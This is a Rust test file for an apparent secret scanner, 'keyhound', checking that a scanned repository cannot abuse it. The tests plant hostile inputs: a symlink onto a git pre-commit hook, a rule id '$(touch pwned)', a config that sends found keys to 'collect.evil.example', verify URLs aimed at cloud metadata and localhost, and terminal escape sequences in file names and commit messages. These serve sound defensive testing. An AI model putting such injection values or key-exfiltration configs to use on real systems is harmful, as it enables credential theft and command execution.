//! End-to-end tests: hostile repositories. What a scanned repository's own files (config,
//! ignore file, baseline, planted links) can and cannot make keyhound do.

use std::path::Path;

use crate::util::*;

/// A "cloned" repository that plants `.keyhound-baseline.json -> .git/hooks/pre-commit` and a
/// rule whose id is a shell command: `baseline create` must not write through the link (the
/// next `git commit` would run the JSON as a hook), and the id is refused at load time.
#[cfg(unix)]
#[test]
fn baseline_and_report_never_write_through_a_planted_symlink() {
    let dir = init_repo();
    let d = dir.path();
    write(d, "app.env", key_line(&openai_project_key()));
    commit_all(d, "start");
    let hooks = d.join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::os::unix::fs::symlink(hooks.join("pre-commit"), d.join(".keyhound-baseline.json"))
        .unwrap();
    let out = output(keyhound_in(d).args(["baseline", "create"]), 2);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains(".keyhound-baseline.json") && err.contains("symbolic link"),
        "{err}"
    );
    assert!(!hooks.join("pre-commit").exists(), "wrote through the link");
    // Read as a baseline, the dangling link is an error that names it, not a silent skip.
    let out = output(keyhound_in(d).args(["scan", "."]), 2);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(".keyhound-baseline.json"), "{err}");
    std::fs::remove_file(d.join(".keyhound-baseline.json")).unwrap();

    // `-o FILE` through a planted link: refused, the target untouched.
    let target = d.join("victim.txt");
    std::fs::write(&target, "precious\n").unwrap();
    std::os::unix::fs::symlink(&target, d.join("audit.json")).unwrap();
    let out = output(
        keyhound_in(d).args(["scan", ".", "-f", "json", "-o", "audit.json"]),
        2,
    );
    assert!(String::from_utf8_lossy(&out.stderr).contains("audit.json"));
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "precious\n");
    // A regular file is replaced whole.
    std::fs::remove_file(d.join("audit.json")).unwrap();
    keyhound_in(d)
        .args(["scan", ".", "-f", "json", "-o", "audit.json"])
        .assert()
        .code(1);
    let findings = json_findings(&std::fs::read(d.join("audit.json")).unwrap());
    assert_eq!(findings.as_array().unwrap().len(), 1);
}

#[test]
fn a_rule_id_that_is_a_shell_command_is_refused() {
    let dir = init_repo();
    let d = dir.path();
    write(
        d,
        ".keyhound.toml",
        "[[rules]]\nid = \"$(touch pwned)\"\ndescription = \"d\"\nregex = 'zz[0-9]{8}'\nkeywords = [\"zz\"]\n",
    );
    write(d, "a.txt", "zz12345678\n");
    let out = output(keyhound_in(d).args(["baseline", "create"]), 2);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("field `id`") && err.contains(".keyhound.toml"),
        "{err}"
    );
    assert!(!Path::new(&d.join("pwned")).exists());
    assert!(!d.join(".keyhound-baseline.json").exists());
}

/// A config in a scanned directory that redefines a built-in rule with a verify URL on its own
/// host, and adds a rule of its own that verifies there: neither ever gets a key, whether the
/// key is in that directory or in another one scanned in the same run; the built-in rule keeps
/// asking the provider's host, and keyhound says where each key goes.
#[test]
fn a_scanned_config_cannot_send_keys_anywhere() {
    use crate::verify::{by_key, FakeProvider, Reply};
    let work = tempfile::tempdir().unwrap();
    let (evil, mine) = (work.path().join("evil"), work.path().join("mine"));
    let theirs = openai_project_key();
    let key = openai_project_key();
    write(
        &evil,
        ".keyhound.toml",
        "[[rules]]\nid = 'openai-project-key'\ndescription = 'OpenAI'\nregex = '(sk-proj-[A-Za-z0-9_-]{20,}T3BlbkFJ[A-Za-z0-9_-]{20,})'\nkeywords = ['T3BlbkFJ']\n[rules.verify]\nurl = 'https://collect.evil.example/steal?k={secret}'\n\n[[rules]]\nid = 'acme-token'\ndescription = 'Acme'\nregex = 'acme_[a-z0-9]{24}'\nkeywords = ['acme_']\n[rules.verify]\nurl = 'https://collect.evil.example/acme'\nheaders = { Authorization = 'Bearer {secret}' }\n\n[allowlist]\npaths = ['x\\.env$']\n".replace("T3BlbkFJ", &marker()),
    );
    write(&evil, "x.env", key_line(&theirs));
    let acme = format!(
        "acme_{}",
        random("abcdefghijklmnopqrstuvwxyz0123456789", 24)
    );
    write(&evil, "acme.env", format!("ACME={acme}\n"));
    write(&mine, "app.env", key_line(&key));
    let provider = FakeProvider::start(by_key(&[(&key, Reply::Status(200))]));
    let out = output(
        keyhound()
            .args(["scan", "evil", "mine", "--verify", "-f", "json"])
            .current_dir(work.path())
            .env("KEYHOUND_TEST_PROVIDER_URL", provider.url()),
        1,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    let seen = provider.seen();
    assert!(
        seen.iter()
            .all(|s| !s.target.contains("steal") && !s.target.contains("acme")),
        "a key went where the scanned config said: {:?}",
        seen.iter().map(|s| &s.target).collect::<Vec<_>>()
    );
    assert_eq!(seen.len(), 1, "{err}");
    assert_eq!(seen[0].target, "/v1/models");
    assert!(err.contains("-> api.openai.com"), "{err}");
    assert!(!err.contains("-> collect.evil.example"), "{err}");
    assert!(err.contains("verify block ignored"), "{err}");
    // The evil directory's allowlist silenced only itself, and the summary says so.
    let findings = json_findings(&out.stdout);
    let paths: Vec<&str> = findings
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["locations"][0]["path"].as_str().unwrap())
        .collect();
    assert!(!paths.contains(&"evil/x.env"), "{paths:?}");
    assert!(
        paths.contains(&"mine/app.env") && paths.contains(&"evil/acme.env"),
        "{paths:?}"
    );
    let summary = json_summary(&out.stdout);
    let config = &summary["config"][0];
    assert_eq!(config["from"], "repository", "{summary}");
    assert!(config["path"].as_str().unwrap().ends_with(".keyhound.toml"));
    assert_eq!(config["path"], "evil/.keyhound.toml");
    assert_eq!(config["removed"], 1, "{summary}");

    // Trusted on purpose, its own rule verifies where it says; the built-in id still cannot.
    let provider = FakeProvider::start(|_: &crate::verify::Seen| Reply::Status(401));
    keyhound()
        .args(["scan", "evil", "mine", "--verify", "--trust-repo-config"])
        .current_dir(work.path())
        .env("KEYHOUND_TEST_PROVIDER_URL", provider.url())
        .assert()
        .code(1);
    let targets: Vec<String> = provider.seen().into_iter().map(|s| s.target).collect();
    assert!(targets.contains(&"/acme".to_string()), "{targets:?}");
    assert!(targets.iter().all(|t| !t.contains("steal")), "{targets:?}");
}

#[test]
fn verify_urls_on_ip_literals_and_local_names_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    for host in [
        "127.0.0.1",
        "169.254.169.254",
        "localhost",
        "metadata",
        "10.0.0.1:8443",
    ] {
        write(
            dir.path(),
            "rules.toml",
            format!("[[rules]]\nid = 'x'\ndescription = 'd'\nregex = 'zz[0-9]{{8}}'\nkeywords = ['zz']\n[rules.verify]\nmethod = 'POST'\nurl = 'https://{host}/collect?k={{secret}}'\n"),
        );
        let out = output(
            keyhound()
                .args(["scan", ".", "--verify", "--config", "rules.toml"])
                .current_dir(dir.path()),
            2,
        );
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(
            err.contains("verify.url") && err.contains("`x`"),
            "{host}: {err}"
        );
    }
}

/// What a repository's own config, ignore file and baseline can do to an audit of it: they
/// still apply (a team's triage), but the summary names each and what it removed, and
/// `--no-repo-config` sets them all aside.
#[test]
fn a_repository_cannot_silence_its_audit_without_a_word() {
    let dir = init_repo();
    let d = dir.path();
    let key = openai_project_key();
    write(d, "app.env", key_line(&key));
    write(d, "more.env", key_line(&openai_project_key()));
    write(
        d,
        ".keyhound.toml",
        "[extend]\ndisable = ['generic-api-key']\n[allowlist]\nregexes = ['.']\n",
    );
    write(d, ".keyhoundignore", "more.env\n");
    commit_all(d, "silence");
    let out = output(keyhound_in(d).args(["git", "-f", "json"]), 0);
    assert_eq!(json_findings(&out.stdout).as_array().unwrap().len(), 0);
    let summary = json_summary(&out.stdout);
    let config = summary["config"].as_array().unwrap();
    assert_eq!(config.len(), 2, "{summary}");
    assert_eq!(config[0]["kind"], "config");
    assert_eq!(config[0]["removed"], 1, "{summary}");
    assert_eq!(config[0]["effect"]["disabled"][0], "generic-api-key");
    assert_eq!(config[1]["kind"], "ignore_file");
    assert_eq!(config[1]["removed"], 1, "{summary}");
    // Human output says it too.
    let out = output(keyhound_in(d).args(["git"]), 0);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("config: ")
            && text.contains("the scanned repository's own")
            && text.contains("removed 1"),
        "{text}"
    );
    assert!(text.contains("ignore file: "), "{text}");
    // Set aside, both keys are back.
    let out = output(
        keyhound_in(d).args(["git", "-f", "json", "--no-repo-config"]),
        1,
    );
    assert_eq!(json_findings(&out.stdout).as_array().unwrap().len(), 2);
    assert_eq!(
        json_summary(&out.stdout)["config"]
            .as_array()
            .unwrap()
            .len(),
        0
    );
}

/// A pull request that adds a key and its fingerprint to `.keyhoundignore` (or a baseline, or
/// an allowlist) does not pass the range gate: in range mode the repository's files come from
/// the base revision.
#[test]
fn a_change_cannot_bless_itself_in_range_mode() {
    let dir = init_repo();
    let d = dir.path();
    write(d, "README.md", "hello\n");
    commit_all(d, "base");
    git(d, &["checkout", "-q", "-b", "feature"]);
    let key = openai_project_key();
    write(d, "app.env", key_line(&key));
    // Learn the fingerprint the way a user would: from keyhound's own output.
    let out = output(keyhound_in(d).args(["scan", "app.env", "-f", "json"]), 1);
    let fp = json_findings(&out.stdout)[0]["fingerprint"]
        .as_str()
        .unwrap()
        .to_string();
    write(d, ".keyhoundignore", format!("{fp}\n"));
    write(d, ".keyhound.toml", "[allowlist]\nregexes = ['.']\n");
    commit_all(d, "add a key and bless it");
    let out = output(
        keyhound_in(d).args(["git", "--range", "main..HEAD", "-f", "json"]),
        1,
    );
    let found = json_findings(&out.stdout);
    assert_eq!(
        found[0]["secret"]
            .as_str()
            .map(|s| s.starts_with("sk-proj-")),
        Some(true)
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains(".keyhoundignore differs from main's"), "{err}");
    // Once the ignore file is on the base branch, it applies, and the summary says where from.
    git(d, &["checkout", "-q", "main"]);
    write(d, ".keyhoundignore", format!("{fp}\n"));
    commit_all(d, "triage on main");
    git(d, &["checkout", "-q", "feature"]);
    git(d, &["rm", "-q", ".keyhoundignore", ".keyhound.toml"]);
    commit_all(d, "drop");
    let out = output(
        keyhound_in(d).args(["git", "--range", "main..HEAD", "-f", "json"]),
        0,
    );
    let summary = json_summary(&out.stdout);
    assert_eq!(
        summary["config"][0]["from"]["revision"], "main",
        "{summary}"
    );
    assert_eq!(summary["config"][0]["removed"], 1, "{summary}");

    // The pre-push hook gates the same way: a real push of the blessing branch is stopped.
    let remote = tempfile::tempdir().unwrap();
    git(remote.path(), &["init", "-q", "--bare"]);
    let url = remote.path().to_str().unwrap();
    let dir = init_repo();
    let d = dir.path();
    write(d, "README.md", "hello\n");
    commit_all(d, "base");
    git(d, &["remote", "add", "origin", url]);
    git(d, &["push", "-q", "origin", "main"]);
    keyhound_in(d)
        .args(["hook", "install", "--pre-push"])
        .assert()
        .success();
    write(d, "app.env", key_line(&key));
    write(d, ".keyhoundignore", format!("{fp}\n"));
    git(d, &["add", "-A"]);
    git(d, &["commit", "-q", "--no-verify", "-m", "bless"]);
    let out = git_output(d, &["push", "origin", "main"], &[]);
    let said = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!out.status.success(), "the push went through: {said}");
    assert!(said.contains("app.env"), "{said}");
}

/// A commit whose message holds the key it adds (and another one): the summary is printed
/// redacted in every format, like the secret itself.
#[test]
fn commit_summaries_are_redacted_like_secrets() {
    let dir = init_repo();
    let d = dir.path();
    let (key, other) = (openai_project_key(), openai_legacy_key());
    write(d, "app.env", key_line(&key));
    git(d, &["add", "-A"]);
    git(
        d,
        &[
            "commit",
            "-q",
            "-m",
            &format!("temporarily use {key} and {other}"),
        ],
    );
    for format in ["human", "json", "jsonl", "sarif", "github"] {
        let out = output(keyhound_in(d).args(["git", "-f", format]), 1);
        let text = String::from_utf8_lossy(&out.stdout);
        for k in [&key, &other] {
            assert!(
                !text.contains(&k[12..k.len() - 4]),
                "{format} prints a key in full: {text}"
            );
        }
        if format == "human" {
            assert!(text.contains("temporarily use sk-proj-…"), "{text}");
        }
    }
    let out = output(keyhound_in(d).args(["git", "-f", "json", "--no-redact"]), 1);
    let f = json_findings(&out.stdout);
    let summary = f[0]["locations"][0]["commit"]["summary"].as_str().unwrap();
    assert!(summary.contains(&key) && summary.contains(&other));
}

/// Terminal control sequences in a commit summary, an author name and a file name are
/// printed as escapes: they cannot erase or rewrite lines of an auditor's terminal.
#[test]
fn terminal_escapes_from_the_repository_are_printed_as_text() {
    let dir = init_repo();
    let d = dir.path();
    let evil_name = "app\u{1b}[2K\u{1b}[1A.env";
    write(d, evil_name, key_line(&openai_project_key()));
    git(d, &["add", "-A"]);
    let out = git_output(
        d,
        &[
            "commit",
            "-q",
            "-m",
            "fix\u{1b}[1A\u{1b}[2K\u{1b}]0;pwned\u{7}",
        ],
        &[("GIT_AUTHOR_NAME", "Mallory\u{1b}[31m")],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = output(keyhound_in(d).args(["git"]), 1);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        !out.stdout.contains(&0x1b) && !out.stdout.contains(&0x07),
        "{text:?}"
    );
    assert!(text.contains("app\\x1b[2K\\x1b[1A.env"), "{text}");
    assert!(
        text.contains("fix\\x1b[1A\\x1b[2K\\x1b]0;pwned\\x07"),
        "{text}"
    );
    assert!(text.contains("Mallory\\x1b[31m"), "{text}");
    let out = output(keyhound_in(d).args(["scan", "."]), 1);
    assert!(
        !out.stdout.contains(&0x1b),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
}
